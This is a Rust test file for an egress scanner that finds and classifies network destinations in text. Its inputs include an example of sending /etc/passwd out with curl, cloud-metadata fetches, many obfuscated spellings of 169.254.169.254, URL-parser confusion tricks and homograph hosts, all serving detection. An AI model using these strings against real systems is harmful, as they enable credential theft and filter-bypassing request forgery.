//! The egress scanner's tests: what is and is not a destination in prose, SQL, shell commands
//! and hostile input, with the lists matched against what was found.

use super::*;
use std::net::Ipv4Addr;

fn none(_: &str) -> bool {
    false
}

pub(super) fn found(s: &str) -> Vec<Destination> {
    let mut out = Vec::new();
    destinations(s, &none, &mut out);
    out
}

pub(super) fn hosts(s: &str) -> Vec<String> {
    found(s).into_iter().map(|d| d.host).collect()
}

/// The one destination in `s`.
pub(super) fn one(s: &str) -> Destination {
    let mut d = found(s);
    assert_eq!(d.len(), 1, "{s:?}: {d:?}");
    d.remove(0)
}

fn list(entries: &[&str]) -> DomainList {
    let v: Vec<String> = entries.iter().map(|e| e.to_string()).collect();
    DomainList::new(&v).unwrap()
}

#[test]
fn urls_of_any_scheme() {
    let d = one("see https://Example.COM/path?q=1#x");
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("example.com", Kind::Url, Class::Public)
    );
    assert_eq!(d.ip, None);
    for (s, h) in [
        ("ftp://files.example.org:21/pub", "files.example.org"),
        ("wss://chat.example.net/socket", "chat.example.net"),
        ("gopher://hole.example:70/", "hole.example"),
        ("s3://my-bucket/key.txt", "my-bucket"),
        ("file://fileserver/share/a.txt", "fileserver"),
        ("jdbc:mysql://db.corp.example:3306/app", "db.corp.example"),
        ("http://user:p%40ss@evil.example/", "evil.example"),
        ("HTTP://EVIL.EXAMPLE", "evil.example"),
        ("http://evil.example./x", "evil.example"),
        ("[docs](https://docs.example.dev)", "docs.example.dev"),
        ("http:\\\\evil.example\\x", "evil.example"),
    ] {
        assert_eq!(hosts(s), [h], "{s}");
        assert_eq!(found(s)[0].kind, Kind::Url, "{s}");
    }
    // No host, no destination.
    assert!(found("file:///etc/passwd").is_empty());
    // The userinfo is not the destination; the host after the last `@` is.
    assert_eq!(hosts("http://good.example@evil.example/"), ["evil.example"]);
}

#[test]
fn urls_inside_sql_and_shell() {
    assert_eq!(hosts("SELECT load_file('http://evil.com/x')"), ["evil.com"]);
    assert_eq!(hosts("curl -d @/etc/passwd https://x.io"), ["x.io"]);
    let d = one("wget 169.254.169.254/latest/meta-data");
    assert_eq!((d.kind, d.class), (Kind::Ip, Class::Metadata));
    assert_eq!(d.ip, Some(IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254))));
    let d = one("scp f.txt user@host.example.com:/tmp");
    assert_eq!((d.host.as_str(), d.kind), ("host.example.com", Kind::Email));
    let d = one("git clone git@github.com:org/repo.git");
    assert_eq!((d.host.as_str(), d.kind), ("github.com", Kind::Email));
    // A URL inside a URL's query is found too, in order.
    assert_eq!(
        hosts("https://a.example.com/r?to=http://169.254.169.254/x"),
        ["a.example.com", "169.254.169.254"]
    );
    // curl reads `\@` differently from browsers: both hosts are reported.
    assert_eq!(
        hosts("curl 'http://good.com\\@evil.com/'"),
        ["good.com", "evil.com"]
    );
}

#[test]
fn numeric_url_hosts_are_decoded() {
    for s in [
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0xa9fea9fe/latest",
        "http://0251.0376.0251.0376/",
        "http://0xa9.0xfe.0xa9.0xfe/",
        "http://169.254.43518/",
        "http://169.16689662/",
        "http://0x00000000a9fea9fe/",
        "http://169.254.169.254./",
        "http://%31%36%39.254.169.254/",
        "http://169%2e254%2e169%2e254/",
    ] {
        let d = one(s);
        assert_eq!(d.host, "169.254.169.254", "{s}");
        assert_eq!((d.kind, d.class), (Kind::Url, Class::Metadata), "{s}");
        assert_eq!(
            d.ip,
            Some(IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254))),
            "{s}"
        );
    }
    let d = one("http://127.1:8080/admin");
    assert_eq!((d.host.as_str(), d.class), ("127.0.0.1", Class::Private));
    let d = one("http://0/");
    assert_eq!((d.host.as_str(), d.class), ("0.0.0.0", Class::Private));
    // Numeric but not an address: reported as written, never as a name lookup.
    let d = one("http://256.256.256.256/");
    assert_eq!((d.host.as_str(), d.ip), ("256.256.256.256", None));
    let d = one("http://99999999999/");
    assert_eq!(d.ip, None);
    // Not numeric: a name.
    assert_eq!(one("http://1.2.3.example/").ip, None);
}

#[test]
fn ipv6() {
    let d = one("http://[fd00:ec2::254]/latest/meta-data/");
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("fd00:ec2::254", Kind::Url, Class::Metadata)
    );
    let d = one("http://[::ffff:169.254.169.254]/");
    assert_eq!(d.class, Class::Metadata);
    assert_eq!(one("http://[::ffff:a9fe:a9fe]/").class, Class::Metadata);
    let d = one("http://[fe80::1%25eth0]:80/");
    assert_eq!((d.host.as_str(), d.class), ("fe80::1", Class::Private));
    let d = one("connect to ::1 now");
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("::1", Kind::Ip, Class::Private)
    );
    assert_eq!(one("[::1]:8080").host, "::1");
    assert_eq!(one("curl [fd00:ec2::254]").class, Class::Metadata);
    let d = one("addr ::ffff:169.254.169.254.");
    assert_eq!(
        (d.host.as_str(), d.class),
        ("::ffff:169.254.169.254", Class::Metadata)
    );
    assert_eq!(one("NAT64 64:ff9b::a9fe:a9fe").class, Class::Metadata);
    assert_eq!(one("2001:db8::1").class, Class::Public);
    assert_eq!(one("fe80::1%eth0").class, Class::Private);
    assert_eq!(one("fc00::5").class, Class::Private);
    // Times, paths and MACs are not addresses.
    for s in [
        "at 12:30:45 today",
        "std::vector<int> and a::b",
        "cafe::face",
        "Foo::Bar::baz()",
        "00:1a:2b:3c:4d:5e",
        "x :: Int",
        "ratio 1:2:3",
    ] {
        assert!(found(s).is_empty(), "{s}: {:?}", found(s));
    }
}

#[test]
fn bare_ipv4() {
    let d = one("ping 10.0.0.1");
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("10.0.0.1", Kind::Ip, Class::Private)
    );
    assert_eq!(one("db at 192.168.1.20:5432.").host, "192.168.1.20");
    assert_eq!(one("x=8.8.8.8;").class, Class::Public);
    assert_eq!(one("169.254.170.2").class, Class::Metadata);
    assert_eq!(one("100.100.100.200").class, Class::Metadata);
    assert_eq!(one("100.64.0.1").class, Class::Private);
    assert_eq!(one("172.31.255.255").class, Class::Private);
    assert_eq!(one("172.32.0.1").class, Class::Public);
    assert_eq!(one("255.255.255.255").class, Class::Private);
    assert_eq!(one("0.0.0.0").class, Class::Private);
    assert_eq!(one("wget 0251.0376.0251.0376").class, Class::Metadata);
    assert_eq!(hosts("range 10.0.0.1-10.0.0.9"), ["10.0.0.1", "10.0.0.9"]);
    let d = one("mail root@10.1.2.3");
    assert_eq!((d.kind, d.host.as_str()), (Kind::Email, "10.1.2.3"));
    for s in [
        "version 1.2.3",
        "pi is 3.14159",
        "1.2.3.4.5",
        "v1.2.3.4",
        "256.1.1.1",
        "2852039166",
        "127.1",
        "1.2.3.4a",
    ] {
        assert!(found(s).is_empty(), "{s}: {:?}", found(s));
    }
}

#[test]
fn emails() {
    let d = one("write to John.Doe+tag@Sub.Example.co.uk.");
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("sub.example.co.uk", Kind::Email, Class::Public)
    );
    assert_eq!(one("<ops@corp.example>").host, "corp.example");
    assert_eq!(one("mailto:a@b.example").host, "b.example");
    assert_eq!(one("root@localhost").class, Class::Private);
    let d = one("ssh admin@metadata.google.internal");
    assert_eq!((d.kind, d.class), (Kind::Email, Class::Metadata));
    // Package specs and decorators are not e-mail.
    for s in [
        "npm i lodash@4.17.21",
        "react@latest",
        "@app.route('/')",
        "@types/node",
        "a@b",
    ] {
        assert!(found(s).is_empty(), "{s}: {:?}", found(s));
    }
}

#[test]
fn bare_hosts() {
    let d = one("fetch EXAMPLE.Com please");
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("example.com", Kind::Host, Class::Public)
    );
    assert_eq!(hosts("curl api.github.com/repos"), ["api.github.com"]);
    assert_eq!(hosts("Visit evil.io, then bit.ly."), ["evil.io", "bit.ly"]);
    assert_eq!(hosts("exfil.attacker.xyz:443"), ["exfil.attacker.xyz"]);
    assert_eq!(hosts("http:/evil.com"), ["evil.com"]);
    assert_eq!(
        hosts("\\\\fileserver.corp.internal\\share"),
        ["fileserver.corp.internal"]
    );
    assert_eq!(hosts("see...example.org"), ["example.org"]);
    assert_eq!(
        hosts("a.example.com..b.example.net"),
        ["a.example.com", "b.example.net"]
    );
    let d = one("curl localhost:8080/admin");
    assert_eq!((d.host.as_str(), d.class), ("localhost", Class::Private));
    assert_eq!(one("wget LOCALHOST").host, "localhost");
    assert_eq!(one("api.localhost").class, Class::Private);
    assert_eq!(one("db.internal").class, Class::Private);
    assert_eq!(one("printer.local").class, Class::Private);
    assert_eq!(one("nas.home.arpa").class, Class::Private);
    assert_eq!(one("metadata.google.internal").class, Class::Metadata);
    assert_eq!(one("metadata.goog").class, Class::Metadata);
    assert_eq!(one("instance-data.ec2.internal").class, Class::Metadata);
    assert_eq!(
        one("http://metadata/computeMetadata/v1/").class,
        Class::Metadata
    );
    assert_eq!(one("http://instance-data/latest").class, Class::Metadata);
    assert_eq!(one("xn--80ak6aa92e.com").host, "xn--80ak6aa92e.com");
    assert_eq!(one("ip-10-0-0-1.ec2.internal").class, Class::Private);
    assert_eq!(one("setup.sh.example.com").host, "setup.sh.example.com");
}

#[test]
fn non_hosts() {
    for s in [
        "open report.pdf and main.rs then data.csv",
        "SELECT u.name, o.total FROM users u JOIN orders o ON u.id = o.user_id",
        "SELECT users.id, orders.total FROM users",
        "release 1.2.3 costs 4.50 dollars",
        "e.g. this, i.e. that, U.S.A.",
        "logger.info(\"started\")",
        "self.page = window.top",
        "bash install.sh && g++ main.cc && perl run.pl",
        "./configure Makefile.in",
        "docker build -f Dockerfile.dev .",
        "cat scripts/deploy.io /var/www/example.com/index.html",
        "cp .env.local .env",
        "node.js and vue.js",
        "Hello world. This is a test: nothing here!",
        "metadata and instance-data are words",
        "",
        ":::...@@@%%%",
    ] {
        assert!(found(s).is_empty(), "{s}: {:?}", found(s));
    }
}

#[test]
fn known_names_extend_the_tld_list() {
    let l = list(&["*.corp.example", "intranet.lan"]);
    let known = |h: &str| l.matches_name(h);
    let mut out = Vec::new();
    destinations(
        "push to git.corp.example and Intranet.LAN, not users.id",
        &known,
        &mut out,
    );
    let h: Vec<&str> = out.iter().map(|d| d.host.as_str()).collect();
    assert_eq!(h, ["git.corp.example", "intranet.lan"]);
    assert!(out.iter().all(|d| d.kind == Kind::Host));
    // Known overrides the code and file heuristics.
    let l = list(&["install.sh"]);
    let known = |h: &str| l.matches_name(h);
    let mut out = Vec::new();
    destinations("curl install.sh", &known, &mut out);
    assert_eq!(out.len(), 1);
}

#[test]
fn unicode_hosts_become_punycode() {
    assert_eq!(one("bücher.de").host, "xn--bcher-kva.de");
    assert_eq!(one("BÜCHER.DE").host, "xn--bcher-kva.de");
    // A homograph of example.com (Cyrillic а) is not example.com.
    let d = one("login at ex\u{430}mple.com now");
    assert_eq!(
        (d.host.as_str(), d.kind),
        ("xn--exmple-4nf.com", Kind::Host)
    );
    assert_eq!(
        one("https://münchen.example/").host,
        "xn--mnchen-3ya.example"
    );
    assert_eq!(one("http://例え.jp/").host, "xn--r8jz45g.jp");
    assert_eq!(one("http://пример.рф/").host, "xn--e1afmkfd.xn--p1ai");
    assert_eq!(one("mail ivan@пример.рф").host, "xn--e1afmkfd.xn--p1ai");
    // Ideographic and fullwidth dots, fullwidth letters.
    assert_eq!(one("evil\u{3002}com").host, "evil.com");
    assert_eq!(one("evil\u{FF0E}com").host, "evil.com");
    assert_eq!(one("evil\u{FF61}io").host, "evil.io");
    assert_eq!(one("http://ｅｖｉｌ．ｃｏｍ/").host, "evil.com");
    assert_eq!(
        one("169\u{3002}254\u{3002}169\u{3002}254").class,
        Class::Metadata
    );
    // CJK prose does not glue onto a bare name.
    assert_eq!(hosts("请访问example.com获取"), ["example.com"]);
}

#[test]
fn percent_encoded_text() {
    assert_eq!(
        hosts("https://good.example/r?u=http%3A%2F%2F169.254.169.254%2F"),
        ["good.example", "169.254.169.254"]
    );
    assert_eq!(one("http%253A%252F%252Fevil.example").host, "evil.example");
    assert_eq!(one("http://ev%69l.example/").host, "evil.example");
    assert!(found("100%ABC").is_empty());
}

#[test]
fn domain_list_globs() {
    let l = list(&["*.corp.example", "GitHub.com"]);
    let host = |h: &str| Destination {
        host: h.to_owned(),
        ip: None,
        kind: Kind::Host,
        class: Class::Public,
    };
    assert!(l.matches(&host("a.corp.example")));
    assert!(l.matches(&host("a.b.corp.example")));
    assert!(!l.matches(&host("corp.example")));
    assert!(!l.matches(&host("corp.example.evil.com")));
    assert!(!l.matches(&host("evilcorp.example")));
    assert!(l.matches(&host("github.com")));
    assert!(!l.matches(&host("api.github.com")));
    assert!(l.matches_name("A.Corp.Example."));
    assert!(l.matches_name("GITHUB.COM"));
    assert!(!l.matches_name("github.co"));
    assert!(!l.is_empty());
    assert!(list(&[]).is_empty());
    let idn = list(&["bücher.de", "*.münchen.example"]);
    assert!(idn.matches(&one("https://bücher.de/")));
    assert!(idn.matches(&one("https://www.münchen.example/")));
    assert!(idn.matches_name("BÜCHER.de"));
    let all = list(&["*"]);
    assert!(all.matches(&one("x.io")));
    // Globs also match addresses as text.
    assert!(list(&["192.168.*"]).matches(&one("192.168.4.4")));
}

#[test]
fn domain_list_networks() {
    let l = list(&[
        "10.0.0.0/8",
        "fd00::/8",
        "169.254.169.254",
        "[::1]",
        "172.16.5.9/12",
    ]);
    let ip = |s: &str| one(s);
    assert!(l.matches(&ip("10.200.0.1")));
    assert!(!l.matches(&ip("11.0.0.1")));
    assert!(l.matches(&ip("http://[fd12::1]/")));
    assert!(!l.matches(&ip("http://[fe80::1]/")));
    assert!(l.matches(&ip("http://2852039166/")));
    assert!(l.matches(&ip("http://[::ffff:10.1.1.1]/")));
    assert!(l.matches(&ip("::1")));
    assert!(l.matches(&ip("172.31.0.1")));
    assert!(!l.matches(&ip("example.com")));
    assert!(l.matches_name("10.1.2.3"));
    assert!(list(&["0.0.0.0/0"]).matches(&ip("8.8.8.8")));
    assert!(list(&["::/0"]).matches(&ip("2001:db8::1")));
}

#[test]
fn order_of_appearance() {
    let d = found("a@mail.example then http://[::1]/ then 8.8.4.4 then example.org");
    let k: Vec<Kind> = d.iter().map(|d| d.kind).collect();
    assert_eq!(k, [Kind::Email, Kind::Url, Kind::Ip, Kind::Host]);
}

#[test]
fn never_panics() {
    let samples = [
        "\u{0}\u{7f}\u{80}\u{10ffff}",
        "http://",
        "http://[",
        "http://[]",
        "http://@",
        "http://a@",
        "://x.com",
        "x://",
        "%",
        "%2",
        "%zz%e3%80",
        "%E3%80%82com",
        "a.\u{3002}.b",
        "\u{3002}\u{3002}\u{3002}",
        "é.é.é",
        ".",
        "..",
        "@",
        "@@.",
        "::",
        ":",
        "[::",
        "0x.0x.0x.0x",
        "http://0x/",
        "http://0x.0x/",
        "http://..../",
        "ß.com",
        "İstanbul.com",
        "\u{212A}elvin.com",
    ];
    for s in samples {
        let _ = found(s);
        for cut in 0..s.len() {
            if let Some(p) = s.get(..cut) {
                let _ = found(p);
            }
        }
    }
    assert_eq!(one("\u{212A}elvin.com").host, "kelvin.com");
    // Pseudo-random strings over an alphabet of delimiters and host characters.
    let alphabet: Vec<char> = "aZ09.:@%/[]-_+x\u{3002}\u{FF0E}é例 \\'\"("
        .chars()
        .collect();
    let mut seed = 0x2545_f491_u64;
    for _ in 0..3000 {
        let mut s = String::new();
        for _ in 0..(seed % 40) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            s.push(alphabet[(seed % alphabet.len() as u64) as usize]);
        }
        let _ = found(&s);
        seed = seed.wrapping_add(1);
    }
}

#[test]
fn long_inputs_are_linear() {
    let big = "a.".repeat(200_000) + "com";
    let _ = found(&big);
    let words = "users.id 1.2.3 report.pdf ".repeat(20_000);
    assert!(found(&words).is_empty());
    let host = format!("http://{}.com/", "é".repeat(100_000));
    assert_eq!(found(&host).len(), 1);
    let colons = ":".repeat(100_000) + "1";
    let _ = found(&colons);
}

// ---- boundaries the mutation run found untested ----

/// `known` for a policy that lists everything: only what is a valid name is asked about.
fn all(_: &str) -> bool {
    true
}

fn found_known(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    destinations(s, &all, &mut out);
    out.into_iter().map(|d| d.host).collect()
}

/// A combining mark is part of the label it follows (`café` with U+0301, which UTS 46
/// normalizes to NFC as every client does: the host is `café`); a symbol ends a URL host or a
/// bare name.
#[test]
fn combining_marks_belong_to_names_symbols_end_them() {
    assert_eq!(
        one("http://cafe\u{301}.example/").host,
        "xn--caf-dma.example"
    );
    assert_eq!(one("cafe\u{301}.com").host, "xn--caf-dma.com");
    assert_eq!(hosts("see http://evil.com\u{2014}x/"), ["evil.com"]);
    assert_eq!(hosts("2\u{d7}evil.com"), ["evil.com"]);
    // U+0800 (and all above it but the fullwidth forms) ends a bare name: CJK prose.
    assert_eq!(hosts("\u{800}evil.com"), ["evil.com"]);
    // A letter whose UTF-8 ends in byte 0x80 (U+0400) is part of the name.
    assert_eq!(hosts("\u{400}x.com"), ["xn--x-1ub.com"]);
}

/// Only valid `%XX` escapes are decoded; a `%` with a non-hex digit stays as written.
#[test]
fn invalid_percent_escapes_stay_as_written() {
    assert_eq!(hosts("%41 evil%g1.com"), ["g1.com"]);
    assert_eq!(hosts("%41 evil%1g.com"), ["1g.com"]);
}

/// Two dots in a row (ASCII or Unicode) separate two names, in Unicode text too; one
/// leading dot is a dotfile, two or more an ellipsis.
#[test]
fn double_dots_split_unicode_names() {
    assert_eq!(
        hosts("bücher.de..münchen.de"),
        ["xn--bcher-kva.de", "xn--mnchen-3ya.de"]
    );
    assert_eq!(
        hosts("bücher.de\u{3002}\u{3002}x.de"),
        ["xn--bcher-kva.de", "x.de"]
    );
    assert!(found("cp .bücher.de x").is_empty());
    assert_eq!(hosts("..bücher.de"), ["xn--bcher-kva.de"]);
    assert_eq!(hosts("..evil.com"), ["evil.com"]);
    assert_eq!(hosts("x:...evil.com"), ["evil.com"]);
    assert_eq!(hosts("see a..evil.com. now"), ["evil.com"]);
}

/// The start of a word is found by looking back once: a long run of blanks before a host
/// does not make the scan quadratic.
#[test]
fn a_long_gap_before_a_host_is_crossed_once() {
    let s = format!("{}x.com", " ".repeat(300_000));
    assert_eq!(hosts(&s), ["x.com"]);
    let s = format!("{}x.com", "\u{2014}".repeat(100_000));
    assert_eq!(hosts(&s), ["x.com"]);
}

/// The word before a URL's scheme is judged on its own (`host:http://...` of some tools),
/// with its own flags; a scheme starts with a letter.
#[test]
fn the_word_before_a_scheme_is_judged_alone() {
    assert_eq!(
        hosts("evil.com:http://x.example/"),
        ["evil.com", "x.example"]
    );
    let d = found("ops@evil.com:http://x.example/");
    let got: Vec<(&str, Kind)> = d.iter().map(|d| (d.host.as_str(), d.kind)).collect();
    assert_eq!(got, [("evil.com", Kind::Email), ("x.example", Kind::Url)]);
    assert_eq!(
        hosts("10.0.0.1.http://x.example/"),
        ["10.0.0.1", "x.example"]
    );
    assert_eq!(
        hosts("evil.com\u{3002}http://x.example/"),
        ["evil.com", "x.example"]
    );
    assert_eq!(one("1://evil.com/").kind, Kind::Host);
    assert!(found("://evil.example/").is_empty());
}

/// After a bracketed host the scan goes on right after the `]`; a bracketed name that is no
/// address is reported as written, an empty one is nothing.
#[test]
fn bracketed_url_hosts() {
    assert_eq!(hosts("http://[::1]/ then evil.com"), ["::1", "evil.com"]);
    assert_eq!(hosts("http://[evil.example]/"), ["evil.example"]);
    assert!(found("http://[]/").is_empty());
}

/// `-` and `_` delimit addresses inside a longer dotted word.
#[test]
fn an_address_glued_to_a_file_name_is_found() {
    assert_eq!(hosts("scp 10.0.0.1_backup.tar"), ["10.0.0.1"]);
    assert_eq!(hosts("10.0.0.1-backup.tar"), ["10.0.0.1"]);
    // A part that is a number but not four of them is no address.
    assert!(found("docker save python-3.11-slim.tar.gz").is_empty());
}

/// Candidates are split on `:` and `+`, the delimiters themselves are in neither part.
#[test]
fn colons_and_plus_signs_split_candidates() {
    assert_eq!(hosts("mirror:evil.com:443"), ["evil.com"]);
    assert_eq!(hosts("q=see+evil.com"), ["evil.com"]);
}

/// Names DNS cannot carry (a label over 63 bytes, a name over 253) are not destinations,
/// even when a policy list would name them.
#[test]
fn overlong_names_are_not_destinations() {
    let long = "a".repeat(64);
    for s in [
        format!("{long}.example"),
        format!("example.{long}"),
        format!("x.{long}.example:443"),
    ] {
        assert_eq!(found_known(&s), Vec::<String>::new(), "{s}");
    }
    assert!(found(&format!("{long}.com")).is_empty());
    let label = "a".repeat(63);
    let name = |last: usize| format!("{label}.{label}.{label}.{}", "a".repeat(last));
    assert_eq!(name(61).len(), 253);
    assert_eq!(found_known(&name(61)), [name(61)]);
    assert_eq!(found_known(&name(62)), Vec::<String>::new());
    assert_eq!(
        found_known(&format!("{label}.example")),
        [format!("{label}.example")]
    );
    // Each label is limited, not the name up to it.
    let host = "a-very-long-subdomain-name-for-testing.another-long-label.example.com";
    assert_eq!(hosts(host), [host]);
    assert_eq!(one("build_01.example.com").host, "build_01.example.com");
    assert_eq!(one("example.website").host, "example.website");
}

/// Far into a long string a host is still found (lengths are measured, not offsets).
#[test]
fn hosts_far_into_a_string_are_found() {
    let pad = " ".repeat(1200);
    assert_eq!(hosts(&format!("{pad}evil.com:443")), ["evil.com"]);
    assert_eq!(hosts(&format!("{pad}bücher.de")), ["xn--bcher-kva.de"]);
    assert_eq!(hosts(&format!("{pad}a+evil.com")), ["evil.com"]);
}

/// A Unicode name of more than 253 bytes can still be a valid host in its ASCII form.
#[test]
fn a_long_unicode_name_is_judged_in_its_ascii_form() {
    let labels = vec!["д".repeat(20); 7];
    let s = format!("{}.com", labels.join("."));
    assert!(s.len() > 257, "{}", s.len());
    let ascii = format!("{}.com", ["xn--d1aaaaaaaaaaaaaaaaaaaa"; 7].join("."));
    assert_eq!(hosts(&s), [ascii.as_str()]);
    assert_eq!(
        hosts(&format!("http://{}/", &s[..s.len() - 4])),
        [&ascii[..ascii.len() - 4]]
    );
}

/// The longest textual IPv6 address (45 characters) is one address.
#[test]
fn the_longest_ipv6_spelling_is_an_address() {
    let s = "0000:0000:0000:0000:0000:ffff:169.254.169.254";
    assert_eq!(s.len(), 45);
    let d = one(s);
    assert_eq!(
        (d.host.as_str(), d.kind, d.class),
        ("::ffff:169.254.169.254", Kind::Ip, Class::Metadata)
    );
}

/// A pre-release version is not an e-mail domain: the last label of one is letters.
#[test]
fn package_versions_are_not_email_domains() {
    assert!(found("npm i react@18.3.0-canary1").is_empty());
    assert!(found("pip install pkg@1.2.x3").is_empty());
}

/// A dotted name called as a function, or a path component, is code, not a host.
#[test]
fn calls_and_path_components_are_not_hosts() {
    assert!(found("user.info(x)").is_empty());
    assert_eq!(hosts("user.info (x)"), ["user.info"]);
    assert!(found("abc/e/evil.io").is_empty());
    assert_eq!(hosts("abc//evil.io"), ["evil.io"]);
}

/// WHATWG IPv4 numbers: an octal part has only octal digits, every part but the last is
/// at most 255; a spelling that fails is no address (in a URL it is reported as written).
#[test]
fn invalid_ipv4_spellings_are_no_addresses() {
    for s in ["019.0.0.1", "1.256.1.1", "1.2.256.1"] {
        assert!(found(s).is_empty(), "{s}: {:?}", found(s));
        let d = one(&format!("http://{s}/"));
        assert_eq!((d.host.as_str(), d.ip), (s, None), "{s}");
    }
    assert_eq!(one("http://017.0.0.1/").host, "15.0.0.1");
    assert_eq!(one("http://1.255.65535/").host, "1.255.255.255");
}

/// A CIDR prefix is one to three digits.
#[test]
fn cidr_prefixes_are_short_numbers() {
    let err = |e: &str| DomainList::new(&[e.to_owned()]).unwrap_err();
    assert_eq!(
        err("10.0.0.0/0008"),
        "`10.0.0.0/0008`: bad CIDR prefix `/0008` (expected a number of bits, 0 to 32)"
    );
    assert_eq!(
        err("10.0.0.0/"),
        "`10.0.0.0/`: bad CIDR prefix `/` (expected a number of bits, 0 to 32)"
    );
    let l = list(&["10.0.0.0/31"]);
    assert!(l.matches(&one("10.0.0.1")));
    assert!(!l.matches(&one("10.0.0.2")));
}

/// The fuzzer's findings on the hand-written host code (fuzz/FOUND.md, egress-1 and egress-2):
/// every host comes back ASCII (punycode) and without a trailing dot, whatever the spelling.
#[test]
fn fuzz_findings_hosts_are_ascii_without_a_trailing_dot() {
    for s in [
        "http://é..pastebin.com/",
        "http://é.0/",
        "http://ߦ.0",
        "http://[::1.]/",
        "http://[++.2%58.]/",
        // Found by the fuzzer after the fix: the percent-encoded form must be lowercase too.
        "meta%datps://\u{301}orp.exam.254/latesp",
        &format!("http://{}é.example/", "a".repeat(70)),
    ] {
        for d in found(s) {
            assert!(d.host.is_ascii(), "{s:?}: {d:?}");
            assert!(
                !d.host.bytes().any(|b| b.is_ascii_uppercase()),
                "{s:?}: {d:?}"
            );
            assert!(!d.host.ends_with('.'), "{s:?}: {d:?}");
        }
    }
}
